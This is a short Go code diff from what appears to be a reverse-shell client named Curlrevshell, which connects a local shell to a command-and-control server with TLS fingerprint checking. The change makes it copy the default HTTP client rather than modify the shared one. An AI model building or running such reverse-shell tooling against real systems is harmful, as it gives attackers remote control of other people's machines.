@@ -68,8 +68,10 @@ func GoSimple(ctx context.Context, c2, fingerprint string, args []string) error 
 
 // Go connects a Shell to Curlrevshell.
 func Go(ctx context.Context, conf ConnConfig, shell Shell) error {
-	/* Roll an HTTP client. */
-	client := http.DefaultClient
+	/* Roll an HTTP client.  Work on a copy; http.DefaultClient is shared
+	by the whole process. */
+	client := new(http.Client)
+	*client = *http.DefaultClient
 	/* Add fingerprint verification if we have it. */
 	if "" != conf.Fingerprint {
 		vfp, err := TLSFingerprintVerifier(conf.Fingerprint)
